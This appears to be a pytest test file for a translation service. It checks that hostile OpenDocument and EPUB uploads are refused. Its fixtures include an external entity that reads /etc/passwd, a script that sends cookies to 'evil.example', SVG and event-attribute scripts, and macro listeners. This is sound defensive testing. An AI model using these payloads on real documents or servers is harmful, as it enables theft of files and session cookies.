"""Hostile OpenDocument files and e-books are refused with words, at once, small, leaving nothing
on disk: an external entity (it would read the server's files), scripts and macros (a document
with code in it is not translated), DRM, and packages that are not what their name says. The
bombs and the package's other lies (tests/bombs.py) cover these kinds too, in
tests/service/test_package.py and over HTTP in tests/http/test_package_bombs.py."""

from __future__ import annotations

import tempfile
import time
import tracemalloc

import opendocs as od
import pytest

from hunyuan_webui.errors import InputError
from hunyuan_webui.files import translate_file

MB = 1_000_000
ENTITY = '<!DOCTYPE html [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'
SCRIPTED = od.CH1.replace("</head>", "<script>fetch('https://evil.example/'+document.cookie)"
                                     "</script></head>")
ON_LOAD = od.CH1.replace("<body>", '<body onload="steal()">')
SVG = (b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script>'
       b'<circle r="1"/></svg>')
ENCRYPTION = (b'<encryption xmlns="urn:oasis:names:tc:opendocument:xmlns:container" '
              b'xmlns:enc="http://www.w3.org/2001/04/xmlenc#"><enc:EncryptedData>'
              b'<enc:CipherData><enc:CipherReference URI="OEBPS/ch1.xhtml"/></enc:CipherData>'
              b'</enc:EncryptedData></encryption>')
LISTENERS = ('<office:scripts><office:event-listeners><script:event-listener '
             'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
             'script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.M.Main"/>'
             '</office:event-listeners></office:scripts>')


def _odt_with_entity() -> bytes:
    data = od.make_odf(".odt")
    content = od.members(data)["content.xml"].decode()
    hostile = content.replace("?>\n", '?>\n<!DOCTYPE x [<!ENTITY s SYSTEM "file:///etc/passwd">]>',
                              1).replace("欢迎来到北京。", "&s;", 1)
    return od.make_odf(".odt", extra={"content.xml": hostile.encode()})


def _with_scripts(ext: str) -> bytes:
    """A file whose body starts a macro when it is opened."""
    content = od.members(od.make_odf(ext))["content.xml"]
    hostile = content.replace(b"<office:body>", LISTENERS.encode() + b"<office:body>", 1)
    return od.make_odf(ext, extra={"content.xml": hostile})


CASES = {
    "an e-book chapter with an external entity": (
        "book.epub", lambda: od.make_epub(chapters={"OEBPS/ch1.xhtml": od.CH1.replace(
            "<!DOCTYPE html>", ENTITY).replace("<h1 id=\"c1\">", "<h1 id=\"c1\">&secret;")}),
        "declares a DOCTYPE with entities"),
    "an .odt with an external entity": ("lesson.odt", _odt_with_entity, "declares a DOCTYPE"),
    "an e-book with a script": ("book.epub", lambda: od.make_epub(
        chapters={"OEBPS/ch1.xhtml": SCRIPTED}), "has scripts (OEBPS/ch1.xhtml)"),
    "an e-book with an event attribute": ("book.epub", lambda: od.make_epub(
        chapters={"OEBPS/ch1.xhtml": ON_LOAD}), "has scripts"),
    "an e-book whose picture has a script": ("book.epub", lambda: od.make_epub(
        extra={"OEBPS/images/pic.svg": SVG}), "has scripts (OEBPS/images/pic.svg)"),
    "an e-book with DRM": ("book.epub", lambda: od.make_epub(
        extra={"META-INF/encryption.xml": ENCRYPTION}), "protected by DRM"),
    "an .odt with macros": ("lesson.odt", lambda: od.make_odf(
        ".odt", extra={"Basic/Standard/Module1.xml": b"<module/>"}), "holds macros"),
    "an .ods run by an event": ("marks.ods", lambda: _with_scripts(".ods"), "holds scripts"),
    "an .odt that is a spreadsheet inside": ("lesson.odt", lambda: od.make_odf(".ods"),
                                            "OpenDocument spreadsheet (Calc) inside: name it .ods"),
    "an .odp that is an e-book": ("slides.odp", od.make_epub, "zip without the parts of one"),
    "an .epub that is an .odt": ("book.epub", lambda: od.make_odf(".odt"), "not an EPUB"),
    "an .ods that is a PDF": ("marks.ods", lambda: b"%PDF-1.4 nothing", "a PDF document"),
    "an .epub that is text": ("book.epub", lambda: b"hello", "not an e-book"),
}


@pytest.mark.parametrize("case", list(CASES))
def test_a_hostile_or_mistaken_file_is_refused_with_words_small_and_leaves_nothing(
        case, tmp_path, monkeypatch):
    name, make, words = CASES[case]
    data = make()
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))  # where anything written would go
    sent: list[str] = []
    tracemalloc.start()
    started = time.monotonic()
    try:
        with pytest.raises(InputError) as refused:
            translate_file(name, data, lambda s: sent.extend(s) or s)
        elapsed = time.monotonic() - started
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert words in str(refused.value), str(refused.value)
    assert sent == []  # nothing of it reached the translator
    assert elapsed < 10 and peak < 20 * MB, (elapsed, peak)
    assert list(tmp_path.iterdir()) == []


def test_the_same_files_without_their_hostile_part_are_translated():
    """The refusals are for what was added, not for the kind: each base file goes through."""
    for name, data in (("lesson.odt", od.make_odf(".odt")), ("marks.ods", od.make_odf(".ods")),
                       ("book.epub", od.make_epub()),
                       ("book.epub", od.make_epub(extra={"OEBPS/images/pic.svg": SVG.replace(
                           b"<script>alert(1)</script>", b"")}))):
        result = translate_file(name, data, lambda s: [x.upper() for x in s])
        assert result.segments > 0
